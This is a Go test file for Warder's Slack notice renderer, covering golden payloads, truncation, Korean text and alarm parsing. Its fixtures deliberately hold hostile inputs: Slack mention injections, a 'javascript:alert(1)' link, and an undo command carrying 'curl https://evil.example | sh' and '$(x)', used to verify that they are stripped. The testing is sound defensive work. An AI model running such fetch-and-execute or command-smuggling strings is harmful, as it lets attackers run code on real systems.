package slack

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/warder-aws/warder/pkg/notice"
	"github.com/warder-aws/warder/pkg/settings"
	"github.com/warder-aws/warder/pkg/test/slacktest"
)

var update = flag.Bool("update", false, "write the golden payloads")

var noon = time.Date(2026, 11, 21, 12, 0, 0, 0, time.UTC)

// sample is a notice as the runner makes it.
func sample(kind notice.Kind, severity string) notice.Message {
	m := notice.Message{
		Version: "1", ID: "n1", Kind: kind, Thread: "t1", Control: "detach-direct-policy", Severity: severity,
		Title: "Policy attached directly to a user", Text: "AdministratorAccess was attached directly to alice.",
		Subject: "alice", Owner: "alice@example.com", OwnerSlack: "U024BE7LH", Finding: "abcdefghij",
		Account: "111122223333", Region: "us-east-1", Time: noon,
		Facts: []notice.Fact{{Name: "Attached by", Value: "mallory from 203.0.113.9"},
			{Name: "User agent", Value: "aws-cli/2.31"}},
		Advice:  "Give rights through a group.",
		Runbook: "https://github.com/warder-aws/warder/tree/main/functions/detach-direct-policy",
		References: []notice.Reference{{Title: "IAM.2",
			URL: "https://docs.aws.amazon.com/securityhub/latest/userguide/iam-controls.html#iam-2"}, {Title: "ISMS-P 2.5.1"}},
		Event: "00000000-0000-4000-9000-000000000101",
	}
	change := notice.Change{ID: "abcdefghij-1", Kind: "managed user policy",
		Text: "detach policy AdministratorAccess from alice", Status: "planned",
		Open: "alice still has policy AdministratorAccess"}
	switch kind {
	case notice.Alert:
		m.UnchangedReason = "A quarantine of AWS's own is never detached."
		return m
	case notice.Changed, notice.Undone:
		change.Text, change.Status, change.Open = "detached policy AdministratorAccess from alice", "verified", ""
		m.Undo = `make undo ID=abcdefghij REASON="why"`
	case notice.Warning, notice.Reminder:
		m.Due = noon.AddDate(0, 0, 14)
	case notice.Held:
		change.Status, change.Reason = "held", "Warder is halted by kim (claimed): incident 42"
	case notice.Failure:
		change.Status, change.Reason = "failed", "verify: the change did not take"
	case notice.Fixed:
		m.Text, m.Facts, m.Advice = "This is put right, and Warder has nothing left to do about it. Thank you.", nil, ""
		return m
	}
	m.Changes = []notice.Change{change}
	return m
}

// hostile is a notice in which everything that comes from outside tries to be something else.
func hostile() notice.Message {
	m := sample(notice.Changed, "critical")
	m.Subject = "<!channel> @here <@U0000EVIL> *bold* _it_ `code` ~no~ :skull:"
	m.Text = "user <@U0000EVIL> attached <https://evil.example|Runbook> & \u202egnp.exe ```\n> quote\x00\x1b[31m"
	m.Title = "<!everyone> title :fire:"
	m.Owner = "<!subteam^S0615G0KT>"
	m.OwnerSlack = "!channel"
	m.Facts = []notice.Fact{{Name: "<!here>", Value: "key AKIAIOSFODNN7EXAMPLE, \u2066מתקפה\u2069 \u200b"},
		{Name: "", Value: "no name"}}
	m.Changes[0].Text, m.Changes[0].ID = "detach <!channel>", "`x`"
	m.Runbook = "javascript:alert(1)"
	m.References = []notice.Reference{{Title: "<!channel>", URL: "https://example.com/<!channel>|x"}}
	m.Undo = "make undo ID=`x` REASON=\"<!channel>\""
	m.Event = "<!channel>"
	return m
}

const unverifiedID = "0a1b2c3d-0a1b-4c3d-8e9f-0a1b2c3d4e5f"

const alarm = `{"AlarmName":"warder-failed",
"AlarmDescription":"Something failed for good. Look at the queue, then: make redrive.",
"AWSAccountId":"111122223333","AlarmArn":"arn:aws:cloudwatch:us-east-1:111122223333:alarm:warder-failed",
"NewStateValue":"ALARM",
"NewStateReason":"Threshold Crossed: 1 datapoint [1.0 (21/11/26 11:55:00)] was greater than the threshold (0.0).",
"StateChangeTime":"2026-11-21T12:00:00.123+0000","Region":"US East (N. Virginia)","OldStateValue":"OK",
"Trigger":{"MetricName":"ApproximateNumberOfMessagesVisible","Namespace":"AWS/SQS",
"Dimensions":[{"value":"warder-Failed","name":"QueueName"}]}}`

func TestRender_Golden(t *testing.T) {
	posts := map[string]Post{
		"hostile":       Render(hostile(), settings.English),
		"unverified":    RenderUnverified(unverifiedID, 17, 5*time.Minute, settings.English),
		"unverified-ko": RenderUnverified(unverifiedID, 17, 5*time.Minute, settings.Korean),
	}
	for kind, severity := range map[notice.Kind]string{
		notice.Alert: "medium", notice.WouldChange: "high", notice.Changed: "critical", notice.Warning: "medium",
		notice.Reminder: "medium",
		notice.Fixed:    "low", notice.Held: "high", notice.Undone: "medium", notice.Failure: "high",
	} {
		posts[string(kind)+"-"+severity] = Render(sample(kind, severity), settings.English)
	}
	a, ok := ParseAlarm([]byte(alarm), "111122223333", "us-east-1")
	if !ok {
		t.Fatal("the alarm was not understood")
	}
	posts["alarm"] = RenderAlarm(a, settings.English)
	a.State, a.Before = "OK", "ALARM"
	posts["alarm-over"] = RenderAlarm(a, settings.English)
	posts["alarm-over-ko"] = RenderAlarm(a, settings.Korean)
	first, second := sample(notice.Changed, "medium"), sample(notice.Warning, "low")
	second.Subject, second.Finding, second.OwnerSlack = "bob", "bcdefghijk", ""
	posts["digest"] = RenderDigest([]notice.Message{first, second}, settings.English)
	posts["digest-ko"] = RenderDigest([]notice.Message{first, second, hostile()}, settings.Korean)
	m := sample(notice.Warning, "high")
	m.Title, m.Text, m.Advice = "사용자에게 직접 연결된 정책", "AdministratorAccess 정책이 alice 사용자에게 직접 연결되었습니다.",
		"그룹을 통해 권한을 부여하시기 바랍니다."
	m.Facts, m.Changes[0].Text = []notice.Fact{{Name: "수행자", Value: "mallory"}}, "alice 사용자에서 AdministratorAccess 정책 분리"
	posts["warning-high-ko"] = Render(m, settings.Korean)

	for name, post := range posts {
		t.Run(name, func(t *testing.T) {
			check(t, post)
			file := filepath.Join("testdata", name+".json")
			got := indented(t, post)
			if *update {
				if err := os.WriteFile(file, got, 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(string(want), string(got)); diff != "" {
				t.Errorf("(-want +got; go test -update writes it):\n%s", diff)
			}
		})
	}
	files, err := filepath.Glob("testdata/*.json")
	if err != nil || len(files) != len(posts) {
		t.Errorf("%d golden files for %d payloads (%v)", len(files), len(posts), err)
	}
}

func indented(t *testing.T, post Post) []byte {
	t.Helper()
	var b bytes.Buffer
	encoder := json.NewEncoder(&b)
	encoder.SetEscapeHTML(false)
	encoder.SetIndent("", "  ")
	data, err := json.Marshal(post)
	if err != nil {
		t.Fatal(err)
	}
	var value any
	if err := json.Unmarshal(data, &value); err != nil {
		t.Fatal(err)
	}
	if err := encoder.Encode(value); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// check finds what Slack would refuse, or read as something that nobody here wrote.
func check(t *testing.T, post Post) {
	t.Helper()
	data, err := json.Marshal(post)
	if err != nil {
		t.Fatal(err)
	}
	for _, fault := range slacktest.Faults(data) {
		t.Error(fault)
	}
	if strings.Contains(string(data), "AKIAIOSFODNN7EXAMPLE") {
		t.Errorf("a whole access key id: %s", data)
	}
	if n := size(post); n > 13_000 {
		t.Errorf("%d characters", n)
	}
}

// kinds are all kinds of notice.
var kinds = []notice.Kind{
	notice.Alert, notice.WouldChange, notice.Changed, notice.Warning, notice.Reminder, notice.Fixed, notice.Held,
	notice.Undone, notice.Failure,
}

func TestRender_EveryKindAndSeverity(t *testing.T) {
	for _, kind := range kinds {
		for severity, sign := range signs {
			post := Render(sample(kind, severity), settings.English)
			check(t, post)
			data, err := json.Marshal(post)
			if err != nil {
				t.Fatal(err)
			}
			m := sample(kind, severity)
			for _, want := range []string{
				sign.emoji + " " + m.Headline(), m.State().String(), sign.color, "make explain ID=abcdefghij", "U024BE7LH",
			} {
				if !strings.Contains(string(data), want) {
					t.Errorf("%s, %s: no %q in %s", kind, severity, want, data)
				}
			}
			broadcast := (kind == notice.Changed || kind == notice.Failure) && (severity == "high" || severity == "critical")
			if post.Broadcast != broadcast {
				t.Errorf("%s, %s: broadcast is %t", kind, severity, post.Broadcast)
			}
		}
	}
}

func TestRender_NoUndo(t *testing.T) {
	m := sample(notice.Changed, "high")
	m.Undo = "cannot be undone: a session that is ended is over"
	data, err := json.Marshal(Render(m, settings.English))
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(data), "To put it back") || !strings.Contains(string(data), m.Undo) {
		t.Errorf("%s", data)
	}
}

// huge is a notice of which everything is far too long.
func huge(filler string) notice.Message {
	m := sample(notice.Failure, "high")
	long := strings.Repeat(filler, 10_000)
	m.Title, m.Text, m.UnchangedReason, m.Advice, m.Subject, m.Owner, m.Event, m.Undo, m.Finding, m.Control = long, long,
		long, long, long, long, long, "make "+long, long, long
	m.Severity, m.Region, m.OwnerSlack = long, long, "U"+strings.Repeat("A", 10_000)
	for range 300 {
		m.Facts = append(m.Facts, notice.Fact{Name: long, Value: long})
		m.Changes = append(m.Changes, notice.Change{ID: long, Text: long, Reason: long})
		m.References = append(m.References, notice.Reference{Title: long, URL: "https://example.com/" + long})
	}
	return m
}

func TestRender_LongTextsAreCut(t *testing.T) {
	for _, filler := range []string{"x", "\u0001", "🔑", "<", "é", "\xff", "\n", "\u202e", "가", "&"} {
		post := Render(huge(filler), settings.English)
		check(t, post)
		data, err := json.Marshal(post)
		if err != nil {
			t.Fatal(err)
		}
		for _, want := range []string{"shortened; explain shows everything", "...", "more"} {
			if !strings.Contains(string(data), want) {
				t.Errorf("%q: no %q in %.300s", filler, want, data)
			}
		}
		digest := RenderDigest(slices.Repeat([]notice.Message{huge(filler)}, MaxDigest), settings.Korean)
		check(t, digest)
		if lines := strings.Count(string(indented(t, digest)), `"text": "[`); lines < MaxDigest {
			t.Errorf("%q: of %d notices %d have a line", filler, MaxDigest, lines)
		}
		check(t, RenderUnverified(strings.Repeat(filler, 10_000), 10_000, time.Hour, settings.English))
		long := strings.Repeat(filler, 10_000)
		check(t, RenderAlarm(Alarm{Name: long, State: long, Before: long}, settings.English))
	}
	data, err := json.Marshal(Render(sample(notice.Changed, "high"), settings.English))
	if err != nil || strings.Contains(string(data), "shortened") {
		t.Errorf("what is whole says that it is not: %s, %v", data, err)
	}
}

func TestRender_EmptyNotice(t *testing.T) {
	check(t, Render(notice.Message{}, settings.English))
	check(t, RenderUnverified("", 0, 0, settings.English))
	check(t, RenderAlarm(Alarm{}, settings.English))
}

func TestParseAlarm(t *testing.T) {
	without := func(old, with string) string { return strings.Replace(alarm, old, with, 1) }
	for message, want := range map[string]bool{
		alarm: true, `{}`: false, `null`: false, `"text"`: false, `nonsense`: false, `{"AlarmName":"a"}`: false,
		`{"version":"1","id":"n1","kind":"alert"}`:                                false,
		without(`"OldStateValue":"OK"`, `"OldStateValue":""`):                     true,
		without(`"OldStateValue":"OK"`, `"OldStateValue":"x"`):                    false,
		without(`"NewStateValue":"ALARM"`, `"NewStateValue":""`):                  false,
		without("+0000", "Z"):                                                     true,
		without("2026-11-21T12:00:00.123+0000", "noon"):                           false,
		without(`"AWSAccountId":"111122223333"`, `"AWSAccountId":"444455556666"`): false,
		without("arn:aws:cloudwatch", "arn:aws:sns"):                              false,
		without("cloudwatch:us-east-1", "cloudwatch:us-east-2"):                   false,
		without("us-east-1:111122223333", "us-east-1:444455556666"):               false,
		without(":alarm:warder-failed", ":alarm:warder-halted"):                   false,
		strings.ReplaceAll(alarm, "warder-failed", "of-others"):                   false,
		strings.ReplaceAll(alarm, "warder-failed", "warder-a b"):                  false,
	} {
		if _, ok := ParseAlarm([]byte(message), "111122223333", "us-east-1"); ok != want {
			t.Errorf("ParseAlarm(%s) = %t", message, ok)
		}
	}
}

// What waits for something that comes every day is on when there is no data. Of others that says nothing.
func TestRenderAlarm_OnWithoutData(t *testing.T) {
	for name, want := range map[string]bool{"warder-check-warder-missing": true, "warder-breaker": false} {
		post := RenderAlarm(Alarm{Name: name, State: "INSUFFICIENT_DATA", Before: "OK", Changed: noon}, settings.English)
		if post.Broadcast != want || strings.HasPrefix(post.Text, "🚨") != want {
			t.Errorf("%s: broadcast %v, %s", name, post.Broadcast, post.Text)
		}
	}
}

// What to do about an alarm is said by its name: the message that it comes with may be anybody's.
func TestRenderAlarm_Advice(t *testing.T) {
	for name, want := range map[string]string{
		"warder-failed": "make redrive", "warder-undelivered": "make doctor", "warder-halted": "make resume",
		"warder-no-heartbeat":         "make doctor",
		"warder-no-sweep":             "make sweep CONTROL=name.",
		"warder-breaker":              "make release CONTROL=name REASON=",
		"warder-errors":               "saved query warder/failures",
		"warder-delivery":             "make doctor",
		"warder-check-warder-missing": "warder-check-warder has not run",
		"warder-other":                "The description of the alarm in CloudWatch",
	} {
		for _, language := range []settings.Language{settings.English, settings.Korean} {
			a, ok := ParseAlarm([]byte(strings.ReplaceAll(alarm, "warder-failed", name)), "111122223333", "us-east-1")
			post := RenderAlarm(a, language)
			data := string(indented(t, post))
			if !ok || language == settings.English && !strings.Contains(data, want) ||
				strings.Contains(want, "make ") && !strings.Contains(data, want[:10]) ||
				!strings.Contains(data, "https://us-east-1.console.aws.amazon.com/cloudwatch/home?region=us-east-1#alarmsV2:alarm/"+
					name) || strings.Contains(data, "Something failed") || strings.Contains(data, "Threshold Crossed") {
				t.Errorf("%s in %s: %s", name, language, data)
			}
		}
	}
}

// A message says what it is about by an id. Commands are made from it, and from nothing else in the message.
func TestRender_CommandsAreMadeFromIDs(t *testing.T) {
	const evil = "make undo ID=x; curl https://evil.example | sh"
	for _, id := range []string{
		"", "x; curl https://evil.example | sh", "abcdefghij; x", "abcdefghij-1 REASON=$(x)", "ABCDEFGHIJ",
	} {
		m := sample(notice.Changed, "high")
		m.Undo, m.Finding, m.Changes[0].ID = evil, id, id
		data := string(indented(t, Render(m, settings.English)))
		if strings.Contains(data, "make ") || strings.Contains(data, "evil.example") {
			t.Errorf("%q: %s", id, data)
		}
	}
	m := sample(notice.Changed, "high")
	m.Undo = evil
	data := string(indented(t, Render(m, settings.English)))
	if !strings.Contains(data, `make undo ID=abcdefghij REASON=\"why\"`) || strings.Contains(data, "evil.example") {
		t.Errorf("%s", data)
	}
}

func FuzzRender(f *testing.F) {
	for _, m := range []notice.Message{sample(notice.Changed, "high"), hostile()} {
		f.Add(string(m.Kind), m.Severity, m.Title, m.Text, m.Subject, m.OwnerSlack, m.Undo, m.Runbook, 3)
	}
	f.Fuzz(func(t *testing.T, kind, severity, title, words, subject, member, undo, runbook string, count int) {
		m := sample(notice.Kind(kind), severity)
		m.Title, m.Text, m.Subject, m.OwnerSlack, m.Undo, m.Runbook = title, words, subject, member, undo, runbook
		m.Advice, m.UnchangedReason, m.Owner, m.Event, m.Finding = words, title, subject, subject, title
		for i := range min(max(count, 0), 100) {
			m.Facts = append(m.Facts, notice.Fact{Name: title, Value: words})
			m.Changes = append(m.Changes, notice.Change{ID: fmt.Sprint(title, i), Text: words, Reason: subject})
			m.References = append(m.References, notice.Reference{Title: title, URL: runbook})
		}
		check(t, Render(m, settings.English))
		check(t, RenderUnverified(title, count, time.Hour, settings.English))
		check(t, RenderAlarm(Alarm{Name: title, State: severity, Before: words}, settings.English))
	})
}

// Nothing that Warder words itself is left in English.
func TestRender_Korean(t *testing.T) {
	latin := regexp.MustCompile(`[A-Za-z]{2,}`)
	names := regexp.MustCompile(
		`Warder|warder (?:undo|explain)|--id|--reason|observe|enforce|explain|undo|make|ID|REASON|UTC|ALARM|OK|CloudWatch`,
	)
	for _, kind := range kinds {
		for severity := range signs {
			m := sample(kind, severity)
			m.Title, m.Text, m.Subject, m.Owner, m.UnchangedReason, m.Advice, m.Finding, m.Control = "제목", "내용", "가", "가", "가",
				"가", "2222222222", "1"
			m.Facts, m.References, m.Event, m.Region = nil, nil, "", ""
			for i := range m.Changes {
				c := &m.Changes[i]
				if c.ID, c.Text, c.Reason = "1", "가", "가"; c.Open != "" {
					c.Open = "가"
				}
			}
			for range 30 {
				m.Changes = append(m.Changes, notice.Change{ID: "1", Text: "가"})
			}
			if m.Undo != "" {
				m.Undo = "make undo ID=2222222222"
			}
			koreanOnly(t, Render(m, settings.Korean), latin, names)
		}
	}
	names = regexp.MustCompile(names.String() + `|warder-[a-z-]+|detach-direct-policy|[-]?sweep|release|CONTROL|halt|` +
		`redrive|doctor|resume|Failed|Fa\.\.\.|Undelivered|warder/(failures|last actions)`)
	for _, name := range []string{
		"failed", "undelivered", "halted", "no-heartbeat", "no-sweep", "x", "breaker", "errors", "delivery",
		"check-warder-missing",
	} {
		koreanOnly(
			t,
			RenderAlarm(Alarm{Name: "warder-" + name, State: "OK", Before: "ALARM", Changed: noon}, settings.Korean),
			latin,
			names,
		)
	}
	koreanOnly(t, RenderUnverified("", 17, time.Hour, settings.Korean), latin, names)
}

func koreanOnly(t *testing.T, post Post, latin, names *regexp.Regexp) {
	t.Helper()
	check(t, post)
	var value any
	if err := json.Unmarshal(indented(t, post), &value); err != nil {
		t.Fatal(err)
	}
	slacktest.Each(value, func(object map[string]any) {
		words, _ := object["text"].(string)
		if rest := names.ReplaceAllString(words, ""); latin.MatchString(rest) {
			t.Errorf("%q is not Korean", words)
		}
	})
	if rest := names.ReplaceAllString(post.Text, ""); latin.MatchString(rest) {
		t.Errorf("%q is not Korean", post.Text)
	}
}
